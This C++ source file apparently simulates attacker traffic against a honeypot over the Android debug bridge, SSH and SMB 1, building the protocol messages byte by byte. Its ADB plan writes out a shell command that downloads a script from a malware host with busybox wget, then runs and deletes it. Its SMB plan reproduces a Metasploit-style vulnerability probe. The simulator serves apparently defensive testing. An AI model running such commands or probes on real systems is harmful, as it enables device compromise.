// Protocols of bytes rather than lines: the Android debug bridge, SSH, SMB 1.
#include <array>
#include <initializer_list>
#include <string>

#include "net/address.hpp"
#include "simulate/conversation_plan.hpp"

namespace nightjar::simulate {
namespace {

using namespace std::string_literals;

std::string little(std::uint64_t value, int bytes) {
  std::string text;
  for (int i = 0; i < bytes; ++i) text += static_cast<char>(value >> (8 * i) & 0xff);
  return text;
}
std::string big(std::uint64_t value, int bytes) {
  std::string text;
  for (int i = bytes - 1; i >= 0; --i) text += static_cast<char>(value >> (8 * i) & 0xff);
  return text;
}
std::string noise(Random& random, int bytes) {
  std::string text;
  for (int i = 0; i < bytes; ++i) text += static_cast<char>(random.below(256));
  return text;
}

/// A message of the debug bridge: command, two arguments, size, sum of the bytes, the command's complement.
std::string adb(std::string_view command, std::uint32_t first, std::uint32_t second, const std::string& bytes = {}) {
  std::uint32_t sum = 0, number = 0;
  for (const char byte : bytes) sum += static_cast<std::uint8_t>(byte);
  for (int i = 3; i >= 0; --i) number = number << 8 | static_cast<std::uint8_t>(command[static_cast<std::size_t>(i)]);
  return std::string(command) + little(first, 4) + little(second, 4) + little(bytes.size(), 4) + little(sum, 4) + little(~number, 4) +
         bytes;
}

/// SSH_MSG_KEXINIT in its packet (RFC 4253 6 and 7.1); lists of both directions are the same.
std::string key_exchange(Random& random, const std::array<std::string_view, 5>& lists) {
  const auto list = [](std::string_view names) { return big(names.size(), 4) + std::string(names); };
  std::string message = "\x14"s + noise(random, 16) + list(lists[0]) + list(lists[1]);
  for (std::size_t i = 2; i < lists.size(); ++i) message += list(lists[i]) + list(lists[i]);
  message += list("") + list("") + std::string(5, '\0');
  int padding = 8 - static_cast<int>((message.size() + 5) % 8);
  if (padding < 4) padding += 8;
  return big(message.size() + 1 + static_cast<std::size_t>(padding), 4) + big(static_cast<std::uint64_t>(padding), 1) + message +
         noise(random, padding);
}

/// An SMB 1 message with its NetBIOS length (MS-CIFS 2.2.3): words and bytes behind the header of 32 bytes.
struct Smb {
  std::uint8_t command;
  std::uint16_t user, tree, multiplex, process;
  std::string words, bytes;
  std::uint32_t status = 0;
  bool answer = false;
};
std::string smb(const Smb& message) {
  // Flags as the probe of Metasploit sets them, 18 01 28; an answer has the reply bit and no extended security.
  const std::string flags = message.answer ? "\x98\x01\x20"s : "\x18\x01\x28"s;
  const std::string all = "\xffSMB"s + big(message.command, 1) + little(message.status, 4) + flags + std::string(12, '\0') +
                          little(message.tree, 2) + little(message.process, 2) + little(message.user, 2) + little(message.multiplex, 2) +
                          big(message.words.size() / 2, 1) + message.words + little(message.bytes.size(), 2) + message.bytes;
  return big(all.size(), 4) + all;
}

}  // namespace

void plan_adb(const VisitPlace& place, Random& random, VisitPlan& plan) {
  constexpr std::uint32_t kVersion = 0x0100'0000, kMost = 4'096;
  const std::string url = "http://" + std::string(place.malware_host) + "/adb.sh";
  const std::string command = "cd /data/local/tmp; busybox wget " + url + " -O -> adb.sh; sh adb.sh; rm adb.sh";
  const std::uint32_t here = 1 + random.below(200), there = 1 + random.below(200);
  Dialogue& talk = plan.dialogues.emplace_back();
  talk.visitor(adb("CNXN", kVersion, 256 * 1'024 * 4, "host::\0"s));
  talk.pot(adb("CNXN", kVersion, kMost, "device::ro.product.name=p212;ro.product.model=X96;ro.product.device=p212;\0"s));
  talk.visitor(adb("OPEN", here, 0, "shell:" + command + "\0"s));
  talk.pot(adb("OKAY", there, here));
  talk.pot(adb("WRTE", there, here, "wget: can't connect to remote host\r\n"), 0.5);
  talk.visitor(adb("OKAY", here, there));
  talk.pot(adb("CLSE", there, here));
  talk.visitor(adb("CLSE", here, there));
  talk.ending = random.below(3) == 0 ? Ending::visitor_resets : Ending::visitor_closes;
  plan.commands.push_back(command);
  plan.urls.push_back(url);
}

void plan_ssh(const VisitPlace& /*place*/, Random& random, VisitPlan& plan) {
  constexpr std::array<std::string_view, 3> kClients = {"SSH-2.0-libssh-0.6.3", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-libssh-0.1"};
  constexpr std::array<std::string_view, 5> kVisitor = {"diffie-hellman-group14-sha1,diffie-hellman-group1-sha1", "ssh-rsa,ssh-dss",
                                                        "aes256-ctr,aes192-ctr,aes128-ctr,aes256-cbc,aes128-cbc,3des-cbc", "hmac-sha1",
                                                        "none"};
  constexpr std::array<std::string_view, 5> kPot = {"diffie-hellman-group14-sha1,diffie-hellman-group1-sha1", "ssh-rsa",
                                                    "aes128-ctr,aes128-cbc,3des-cbc", "hmac-sha1,hmac-md5", "none"};
  Dialogue& talk = plan.dialogues.emplace_back();
  talk.pot("SSH-2.0-dropbear_2012.55\r\n", 0.01);
  talk.visitor(std::string(kClients[random.below(kClients.size())]) + "\r\n", 0.01);
  talk.pot(key_exchange(random, kPot));
  if (random.below(4) != 0) talk.visitor(key_exchange(random, kVisitor));
  constexpr std::array kEndings = {Ending::visitor_closes, Ending::visitor_resets, Ending::visitor_closes, Ending::silence};
  talk.ending = kEndings[random.below(kEndings.size())];
}

void plan_smb(const VisitPlace& place, Random& random, VisitPlan& plan) {
  constexpr std::uint8_t kNegotiate = 0x72, kSessionSetup = 0x73, kTreeConnect = 0x75, kTransaction = 0x25;
  constexpr std::uint16_t kUser = 0x0800, kTree = 0x0801;
  constexpr std::uint32_t kInsufficientResources = 0xc0000205;  // "vulnerable"
  const auto process = static_cast<std::uint16_t>(1 + random.below(65'000)),
             multiplex = static_cast<std::uint16_t>(1 + random.below(65'000));
  const auto message = [&](std::uint8_t command, std::uint16_t user, std::uint16_t tree, std::string words, std::string bytes) {
    return Smb{command, user, tree, multiplex, process, std::move(words), std::move(bytes)};
  };
  const auto reply = [&](std::uint8_t command, std::uint16_t user, std::uint16_t tree, std::string words, std::string bytes,
                         std::uint32_t status = 0) {
    return Smb{command, user, tree, multiplex, process, std::move(words), std::move(bytes), status, true};
  };
  const std::string no_next = "\xff\0"s + little(0, 2);  // AndX: no second command

  Dialogue& talk = plan.dialogues.emplace_back();
  talk.visitor(smb(message(kNegotiate, 0, 0, "", "\x02NT LM 0.12\0"s)));
  // NT LM 0.12: dialect, security mode, limits, capabilities, time, zone, key.
  talk.pot(smb(reply(kNegotiate, 0, 0,
                     little(0, 2) + "\x03"s + little(50, 2) + little(1, 2) + little(16'644, 4) + little(65'536, 4) + little(0, 4) +
                         little(0x00d4, 4) + little(0, 8) + little(0, 2) + "\x08"s,
                     noise(random, 8) + "WORKGROUP\0PC\0"s)));
  talk.visitor(smb(message(kSessionSetup, 0, 0,
                           no_next + little(4'356, 2) + little(10, 2) + little(0, 2) + little(0, 4) + little(0, 2) + little(0, 2) +
                               little(0, 4) + little(0x00d4, 4),
                           "\0.\0Windows 2000 2195\0Windows 2000 5.0\0"s)));
  talk.pot(smb(reply(kSessionSetup, kUser, 0, no_next + little(1, 2),
                     "Windows 7 Professional 7601 Service Pack 1\0Windows 7 Professional 6.1\0WORKGROUP\0"s)));
  talk.visitor(smb(message(kTreeConnect, kUser, 0, no_next + little(0, 2) + little(1, 2),
                           "\0\\\\"s + format(Address{4, place.pot, 0}) + "\\IPC$\0?????\0"s)));
  talk.pot(smb(reply(kTreeConnect, kUser, kTree, no_next + little(1, 2), "IPC\0\0"s)));
  // PeekNamedPipe on file 0: 16 words, counts of 0, offsets behind the name, two words of setup.
  talk.visitor(
      smb(message(kTransaction, kUser, kTree,
                  little(0, 4) + little(0xffff, 2) + little(0xffff, 2) + little(0, 2) + little(0, 2) + little(0, 4) + little(0, 2) +
                      little(0, 2) + little(74, 2) + little(0, 2) + little(74, 2) + little(2, 2) + little(0x23, 2) + little(0, 2),
                  "\\PIPE\\\0"s)));
  talk.pot(smb(reply(kTransaction, kUser, kTree, "", "", kInsufficientResources)));
  talk.ending = random.below(2) == 0 ? Ending::visitor_resets : Ending::visitor_closes;
}

}  // namespace nightjar::simulate
